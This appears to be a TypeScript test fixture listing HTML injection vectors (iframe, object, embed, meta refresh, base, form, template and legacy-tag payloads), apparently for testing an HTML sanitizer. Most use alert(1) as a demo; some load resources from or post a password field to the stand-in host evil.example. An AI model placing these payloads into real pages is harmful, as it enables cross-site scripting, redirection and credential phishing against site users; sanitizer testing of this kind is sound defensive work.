import { vectorLines } from './vector-lines.ts'

/** Other documents, forms, and elements that change how the page around them works. */
export const embeddingVectors: string[] = vectorLines(`
<iframe src="javascript:alert(1)"></iframe>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<iframe/onload=alert(1)>
<iframe src=x></iframe><img src=x onerror=alert(1)>
<iframe><script>alert(1)</script></iframe>
<iframe><img src=x onerror=alert(1)>
<iframe><iframe><iframe><img src=x onerror=alert(1)></iframe></iframe></iframe>
<iframe name="x" sandbox="allow-scripts allow-same-origin" src=x></iframe>
<frame src="javascript:alert(1)">
<frameset><frame src="javascript:alert(1)"></frameset>
<fencedframe src="https://evil.example"></fencedframe>
<portal src="https://evil.example"></portal>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object type="text/x-scriptlet" data="https://evil.example"></object>
<object classid="clsid:x"><param name=url value="javascript:alert(1)"></object>
<object><param name=src value="javascript:alert(1)"><img src=x onerror=alert(1)></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml,<svg onload=alert(1)>" type="image/svg+xml">
<embed code="https://evil.example/x.swf" allowscriptaccess=always>
<applet code="javascript:alert(1)"></applet>
<applet archive="https://evil.example/x.jar" code=x></applet>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta http-equiv="Set-Cookie" content="x=y">
<meta charset="utf-7">
<meta name="referrer" content="unsafe-url">
<base href="javascript:alert(1)//">
<base href="https://evil.example/">
<base target="_blank">
<link rel="stylesheet" href="https://evil.example/x.css">
<link rel="import" href="https://evil.example/x.html">
<link rel="prefetch" href="https://evil.example" onload=alert(1)>
<link rel="manifest" href="https://evil.example">
<form action="javascript:alert(1)"><input type=submit></form>
<form action="https://evil.example" method=post><input name=password type=password></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<input type="submit" formaction="javascript:alert(1)" value=x>
<isindex type=image src=x onerror=alert(1) action="javascript:alert(1)">
<label for="x">x</label><output name=y>z</output>
<select><option><script>alert(1)</script></option></select>
<select><iframe src="javascript:alert(1)"></iframe></select>
<datalist><option label="<script>alert(1)</script>"></datalist>
<fieldset disabled><legend><img src=x onerror=alert(1)></legend></fieldset>
<template><script>alert(1)</script></template>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode="open"><script>alert(1)</script></template>
<slot name=x onslotchange=alert(1)></slot>
<video><source src="javascript:alert(1)"></video>
<video controls src="https://a.example/x.mp4"><track src="javascript:alert(1)" default></video>
<audio controls><source src="data:text/html,x"></audio>
<picture><source srcset="https://evil.example/x"><img src=x onerror=alert(1)></picture>
<canvas id=x></canvas>
<dialog open>x</dialog>
<menu type=context><menuitem onclick=alert(1)></menu>
<layer src="https://evil.example/x.js"></layer>
<ilayer src="javascript:alert(1)"></ilayer>
<xml id=x><x><![CDATA[<img src=x onerror=alert(1)>]]></x></xml><span datasrc=#x datafld=x dataformatas=html></span>
<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?>
<?php echo '<script>alert(1)</script>' ?>
<% alert(1) %>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<html><head><title>x</title><script>alert(1)</script></head><body>x</body></html>
<head><base href="https://evil.example/"></head>
<body background="javascript:alert(1)">
<plaintext><script>alert(1)</script>
<listing><script>alert(1)</script></listing>
<xmp><script>alert(1)</script></xmp>
<xmp>&lt;script&gt;alert(1)&lt;/script&gt;</xmp>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img src=x onerror=alert(1)></noframes>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><!--</noscript><img src=x onerror=alert(1)>-->
<textarea><script>alert(1)</script></textarea>
<textarea></textarea><img src=x onerror=alert(1)>
<title><img src=x onerror=alert(1)></title>
<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;
`)
